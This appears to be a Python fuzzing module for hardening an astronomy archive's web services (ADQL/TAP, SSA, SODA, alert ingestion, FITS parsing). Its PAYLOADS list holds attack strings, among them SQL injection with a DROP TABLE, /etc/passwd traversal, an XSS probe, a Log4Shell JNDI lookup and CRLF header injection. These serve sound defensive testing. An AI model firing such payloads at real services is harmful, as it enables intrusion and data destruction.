"""Hostile input for the hardening fuzzers: ADQL, every parameter, alerts, FITS files.

Shared by the bounded tests (``tests/web/test_fuzz_never_500.py``, in process) and the full
runs of ``benchmarks/bench_hardening.py fuzz`` (against ``soxsvo serve``), so both send the
same kinds of request; only how many differs. Everything is drawn from a seeded
``random.Random``: a failure names its seed and index and can be sent again.
"""

from __future__ import annotations

import copy
import io
import json
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from tests.adql.conformance import load_cases

# -- ADQL ------------------------------------------------------------------------------------
_TOKEN = re.compile(r"'(?:[^']|'')*'|\"[^\"]*\"|\d+\.?\d*(?:[eE][-+]?\d+)?|\w+|<=|>=|<>|!=|\|\||\S")
EXTREME_NUMBERS = ["0", "-0", "1e308", "-1e308", "1e-320", "9223372036854775808",
                   "-2147483649", "360.0000001", "-90.5", "90.5", "1e999", "0.0", "65536",
                   "3.4028235e39", "-1", "180", "-180", "100000"]
NASTY_STRINGS = ["''", "'\\'", "'%'", "'_'", "'\u00e9\u6f22'", "'" + "x" * 5000 + "'",
                 "'a''b'", "'\U0001f600'", "'ICRS'", "'GALACTIC'", "'--'", "'/*'", "';'"]
GEOMETRY = ["POINT('ICRS', {a}, {b})", "CIRCLE('ICRS', {a}, {b}, {c})",
            "BOX('ICRS', {a}, {b}, {c}, {c})", "POLYGON('ICRS', {a}, {b}, {c}, {b}, {a}, {c})",
            "POINT({a}, {b})", "CIRCLE({a}, {b}, {c})", "CIRCLE(POINT({a}, {b}), {c})"]
FUNCTIONS = ["ABS", "CEILING", "DEGREES", "EXP", "FLOOR", "LOG", "LOG10", "MOD", "PI", "POWER",
             "RADIANS", "SQRT", "RAND", "ROUND", "TRUNCATE", "SIN", "ASIN", "ATAN2", "LOWER",
             "UPPER", "COALESCE", "IN_UNIT", "DISTANCE", "CONTAINS", "INTERSECTS", "AREA",
             "CENTROID", "COORD1", "COORD2", "COORDSYS", "GREATEST", "LEAST", "ILIKE",
             "ivo_hasword", "ivo_string_agg", "gavo_match", "CAST", "COUNT", "AVG"]
COLUMNS = {"ivoa.obscore": ["s_ra", "s_dec", "s_fov", "t_min", "em_min", "obs_id", "dp_id",
                            "s_region", "target_name", "obs_publisher_did", "access_url"],
           "tap_schema.columns": ["table_name", "column_name", "datatype", "arraysize"],
           "marshall.transient": ["ra", "dec", "name", "transient_id"]}
KEYWORDS = ["SELECT", "FROM", "WHERE", "JOIN", "ON", "AND", "OR", "NOT", "UNION", "TOP",
            "ORDER", "BY", "GROUP", "HAVING", "DISTINCT", "OFFSET", "WITH", "AS", "IN",
            "BETWEEN", "LIKE", "IS", "NULL", "CASE", "WHEN", "THEN", "ELSE", "END", "(", ")",
            ",", "*", "||", "=", "<", ";", "--", "/*", "*/", "'", '"', "\x00"]


def _tokens(query: str) -> list[str]:
    return _TOKEN.findall(query)


def mutate(query: str, rng: random.Random) -> str:
    """Apply one to three token edits (delete, duplicate, swap, replace, insert) to a query."""
    tokens = _tokens(query) or ["SELECT"]
    for _ in range(rng.randint(1, 3)):
        i = rng.randrange(len(tokens))
        edit = rng.randrange(6)
        if edit == 0 and len(tokens) > 1:
            del tokens[i]
        elif edit == 1:
            tokens.insert(i, tokens[i])
        elif edit == 2 and i + 1 < len(tokens):
            tokens[i], tokens[i + 1] = tokens[i + 1], tokens[i]
        elif edit == 3 and re.fullmatch(r"[\d.eE+-]+", tokens[i]):
            tokens[i] = rng.choice(EXTREME_NUMBERS)
        elif edit == 4 and tokens[i].startswith("'"):
            tokens[i] = rng.choice(NASTY_STRINGS)
        else:
            tokens.insert(i, rng.choice(KEYWORDS + FUNCTIONS))
    return " ".join(tokens)


def _literal(rng: random.Random) -> str:
    return rng.choice(EXTREME_NUMBERS + [f"{rng.uniform(-400, 400):.6g}"] * 6)


def _expression(rng: random.Random, columns: list[str], depth: int = 0) -> str:
    pick = rng.randrange(5 if depth < 3 else 2)
    if pick == 0:
        return rng.choice(columns)
    if pick == 1:
        return _literal(rng) if rng.random() < 0.8 else rng.choice(NASTY_STRINGS)
    if pick == 2:
        a, b, c = (_literal(rng) for _ in range(3))
        return rng.choice(GEOMETRY).format(a=a, b=b, c=c)
    if pick == 3:
        args = ", ".join(_expression(rng, columns, depth + 1) for _ in range(rng.randint(0, 3)))
        return f"{rng.choice(FUNCTIONS)}({args})"
    op = rng.choice(["+", "-", "*", "/", "||", "%"])
    return f"({_expression(rng, columns, depth + 1)} {op} {_expression(rng, columns, depth + 1)})"


def generated(rng: random.Random) -> str:
    """A query built from random expressions over a real table (mostly valid grammar)."""
    table = rng.choice(sorted(COLUMNS))
    columns = COLUMNS[table]
    select = ", ".join(_expression(rng, columns) for _ in range(rng.randint(1, 4)))
    where = f" WHERE {_expression(rng, columns)} {rng.choice(['=', '<', '>', '<>'])} " \
            f"{_expression(rng, columns)}" if rng.random() < 0.7 else ""
    joiner = ""
    if rng.random() < 0.15:
        joiner = (f" {rng.choice(['JOIN', 'LEFT JOIN', 'FULL JOIN', 'CROSS JOIN'])} "
                  f"{rng.choice(sorted(COLUMNS))} AS b ON {_expression(rng, columns)} < 1")
    order = f" ORDER BY {rng.randint(1, 3)}" if rng.random() < 0.2 else ""
    return f"SELECT TOP {rng.choice([1, 10, 0, -1, 99999999])} {select} FROM {table}" \
           f"{joiner}{where}{order}"


def adql_queries(seed: int, n: int) -> Iterator[str]:
    """``n`` hostile ADQL queries: half mutated from the IVOA corpus, half generated."""
    rng = random.Random(seed)
    corpus = [case.adql for case in load_cases()]
    for _ in range(n):
        yield mutate(rng.choice(corpus), rng) if rng.random() < 0.5 else generated(rng)


# -- every parameter -------------------------------------------------------------------------
PAYLOADS = ["' OR '1'='1", "1; DROP TABLE soxs.product; --", "\x00", "%00", "../../../etc/passwd",
            "<script>alert(1)</script>", "${jndi:ldap://x/a}", "-1", "1e999", "NaN", "inf",
            "\r\nX-Injected: 1", "\u202e\u0000\ufffe", "x" * 20000, "[]", "{}", "0x7fffffff",
            "18446744073709551617", "ivo://../..", "POS=1,2", "1,2,3,4,5,6,7,8,9,10,11",
            "CIRCLE 10 100 1", "POLYGON 0 -60 120 -60 240", "\\", "'", '"', "*", ""]


@dataclass(frozen=True)
class Endpoint:
    """A request shape: method, path (``{name}`` placeholders), parameters with good values."""

    method: str
    path: str
    params: dict[str, str] = field(default_factory=dict)
    json_body: bool = False


ENDPOINTS = [
    Endpoint("GET", "/tap/sync", {"LANG": "ADQL", "REQUEST": "doQuery", "RESPONSEFORMAT": "csv",
                                  "MAXREC": "10", "QUERY": "SELECT TOP 1 * FROM ivoa.obscore"}),
    Endpoint("POST", "/tap/sync", {"LANG": "ADQL", "FORMAT": "votable", "RUNID": "x",
                                   "QUERY": "SELECT TOP 1 * FROM tap_schema.tables",
                                   "UPLOAD": "t,param:t"}),
    Endpoint("POST", "/tap/async", {"LANG": "ADQL", "QUERY": "SELECT TOP 1 * FROM ivoa.obscore",
                                    "PHASE": "RUN", "DESTRUCTION": "2030-01-01T00:00:00Z",
                                    "EXECUTIONDURATION": "10"}),
    Endpoint("GET", "/tap/async", {"PHASE": "COMPLETED", "AFTER": "2020-01-01T00:00:00Z",
                                   "LAST": "5"}),
    Endpoint("GET", "/tap/async/{job}", {"WAIT": "1", "PHASE": "EXECUTING"}),
    Endpoint("POST", "/tap/async/{job}/phase", {"PHASE": "ABORT"}),
    Endpoint("POST", "/tap/async/{job}/destruction", {"DESTRUCTION": "2030-01-01T00:00:00Z"}),
    Endpoint("POST", "/tap/async/{job}/executionduration", {"EXECUTIONDURATION": "5"}),
    Endpoint("GET", "/tap/async/{job}/results/{result}", {}),
    Endpoint("GET", "/tap/tables/{table}", {}),
    Endpoint("GET", "/ssa", {"REQUEST": "queryData", "POS": "10,-30", "SIZE": "1",
                             "BAND": "5e-7/1e-6", "TIME": "2020-01-01/2030-01-01",
                             "FORMAT": "all", "MAXREC": "10", "TARGETNAME": "SN",
                             "PUBDID": "ivo://x", "COLLECTION": "SOXS", "VERB": "1",
                             "SPECRP": "100", "SNR": "5", "REDSHIFT": "0/1",
                             "TARGETCLASS": "SN", "FLUXCALIB": "ABSOLUTE", "SPATRES": "1",
                             "APERTURE": "1", "TOP": "1", "RESPONSEFORMAT": "votable"}),
    Endpoint("GET", "/datalink/links", {"ID": "ivo://eso.org/ID?x", "RESPONSEFORMAT": "votable"}),
    Endpoint("GET", "/soda/sync", {"ID": "ivo://eso.org/ID?x", "BAND": "5e-7 6e-7",
                                   "CIRCLE": "10 10 1", "POLYGON": "1 1 2 2 3 1", "POS": "x",
                                   "TIME": "1 2", "POL": "I", "RESPONSEFORMAT": "fits"}),
    Endpoint("GET", "/moc/{kind}", {"order": "6", "format": "fits"}),
    Endpoint("GET", "/moc/query", {"moc": "3/1-5", "table": "ivoa.obscore", "MAXREC": "10",
                                   "RESPONSEFORMAT": "csv"}),
    Endpoint("GET", "/files/{dp_id}", {}),
    Endpoint("GET", "/preview/{dp_id}.png", {"width": "400"}),
    Endpoint("GET", "/hips/{name}/{relative}", {}),
    Endpoint("GET", "/api/lists/{name}/transients", {"limit": "10", "offset": "0"}),
    Endpoint("GET", "/api/transients/{tid}", {}),
    Endpoint("GET", "/api/spectra/{dp_id}", {}),
    Endpoint("POST", "/api/transients/{tid}/comments", {"text": "hello"}, json_body=True),
    Endpoint("POST", "/api/transients/{tid}/classification",
             {"type": "SN Ia", "redshift": "0.05", "spectrum_dp_id": "1"}, json_body=True),
    Endpoint("POST", "/api/transients/{tid}/priority", {"priority": "2"}, json_body=True),
    Endpoint("POST", "/api/transients/{tid}/move", {"list": "followup"}, json_body=True),
    Endpoint("GET", "/marshall/{name}", {"sort": "ra", "page": "2", "q": "SN"}),
    Endpoint("GET", "/marshall/transient/{tid}", {}),
    Endpoint("GET", "/archive", {"q": "SN", "page": "1", "ra": "10", "dec": "10", "radius": "1"}),
    Endpoint("POST", "/login", {"login": "ann", "password": "x", "next": "/"}),
]
PATH_DEFAULTS = {"job": "nojob", "result": "result", "table": "ivoa.obscore", "kind": "products",
                 "dp_id": "1", "name": "followup", "relative": "Norder3/Dir0/Npix1.png",
                 "tid": "1"}


@dataclass(frozen=True)
class Attack:
    """One request: the endpoint, the method, the concrete path and its parameters."""

    endpoint: Endpoint
    path: str
    params: dict[str, str]
    target: str  # which parameter (or path part) carries the payload


def _quote_path(value: str) -> str:
    from urllib.parse import quote
    return quote(value, safe="")


def injections(payloads: list[str] = PAYLOADS) -> Iterator[Attack]:
    """Every payload in every parameter and every path part of every endpoint, one at a time."""
    for endpoint in ENDPOINTS:
        names = re.findall(r"{(\w+)}", endpoint.path)
        good_path = endpoint.path.format(**PATH_DEFAULTS)
        for payload in payloads:
            for name in endpoint.params:
                params = dict(endpoint.params, **{name: payload})
                yield Attack(endpoint, good_path, params, name)
            for name in names:
                path = endpoint.path.format(**dict(PATH_DEFAULTS, **{name: _quote_path(payload)}))
                yield Attack(endpoint, path, dict(endpoint.params), f"path:{name}")


# -- alerts and notices ----------------------------------------------------------------------
GCN_NOTICE = {"$schema": "https://gcn.nasa.gov/schema/v4.1.0/gcn/notices/swift/bat/"
                         "Guano.schema.json",
              "mission": "Swift", "instrument": "BAT", "messenger": "EM",
              "alert_datetime": "2026-12-07T01:02:03Z", "trigger_time": "2026-12-07T01:00:00Z",
              "id": ["1234567"], "ra": 150.1, "dec": -30.2, "ra_dec_error": 0.05,
              "alert_type": "initial"}
ODD_VALUES = [5, -1, 1e308, None, "", "x" * 3000, [], {}, [[[]]], True, "NaN", "2026-13-45",
              {"$ref": "#"}, "\u0000", 2**70]


def _mutate_json(doc: object, rng: random.Random) -> object:
    doc = copy.deepcopy(doc)
    if isinstance(doc, dict) and doc:
        key = rng.choice(sorted(doc))
        edit = rng.randrange(3)
        if edit == 0:
            del doc[key]
        elif edit == 1:
            doc[key] = rng.choice(ODD_VALUES)
        else:
            doc[rng.choice(["extra", key + "_", "superevent_id", "event"])] = \
                rng.choice(ODD_VALUES + [GCN_NOTICE])
    return doc


def _flip(data: bytes, rng: random.Random) -> bytes:
    raw = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        edit = rng.randrange(3)
        i = rng.randrange(len(raw))
        if edit == 0:
            raw[i] = rng.randrange(256)
        elif edit == 1:
            del raw[i:i + rng.randint(1, 64)]
        else:
            raw[i:i] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
    return bytes(raw)


def malformed_alerts(seed: int, n: int, avro_packet: bytes) -> Iterator[tuple[str, bytes]]:
    """``n`` bodies for ``POST /api/alerts``: (content type, body) — broken GCN JSON notices,
    byte-flipped and truncated ZTF Avro packets, and JSON that is not a notice at all."""
    rng = random.Random(seed)
    notice = GCN_NOTICE
    for _ in range(n):
        kind = rng.randrange(4)
        if kind == 0:
            notice = _mutate_json(notice if rng.random() < 0.7 else GCN_NOTICE, rng)
            yield "application/json", json.dumps(notice, allow_nan=True).encode()
        elif kind == 1:
            yield "avro/binary", _flip(avro_packet, rng)
        elif kind == 2:
            yield "avro/binary", avro_packet[:rng.randrange(len(avro_packet))]
        else:
            text = json.dumps(GCN_NOTICE)
            yield "application/json", text[:rng.randrange(len(text))].encode()


# -- FITS files ------------------------------------------------------------------------------
def malformed_fits(seed: int, n: int, good: Path) -> Iterator[bytes]:
    """``n`` broken variants of a good product: header bytes changed, cards broken, the data
    cut, the file truncated at random."""
    rng = random.Random(seed)
    data = good.read_bytes()
    headers_end = data.index(b"END" + b" " * 77) + 80
    for _ in range(n):
        raw = bytearray(data)
        kind = rng.randrange(4)
        if kind == 0:  # a value field of a header card rewritten
            card = rng.randrange(headers_end // 80) * 80
            raw[card + 10:card + 30] = rng.choice(
                [b"61000.1.2", b"'not closed", b"T F", b"1e999", b"\x00\xff", b"(1,2"]).ljust(20)
        elif kind == 1:
            raw = bytearray(_flip(bytes(raw[:headers_end]), rng)) + raw[headers_end:]
        elif kind == 2:
            raw = raw[:rng.randrange(len(raw))]
        else:
            raw = bytearray(_flip(bytes(raw), rng))
        yield bytes(raw)


def response_form_ok(path: str, status: int, content_type: str, body: bytes) -> bool:
    """Whether an error answer comes in the form of the protocol ``path`` belongs to."""
    if status < 400:
        return True
    if status == 414:
        # gunicorn refuses a request line over its limit before the path is parsed: it
        # cannot tell which service was asked, and answers as the DAL services do.
        return b"QUERY_STATUS" in body
    if path.startswith("/api/"):
        return content_type.startswith("application/problem+json") and \
            bool(json.load(io.BytesIO(body)).get("title"))
    if path.startswith(("/tap", "/ssa", "/datalink", "/soda", "/moc")):
        return b"QUERY_STATUS" in body and b"ERROR" in body or (
            content_type.startswith("text/plain") and bool(body.strip()))
    return content_type.startswith("text/html") and b"<html" in body.lower()
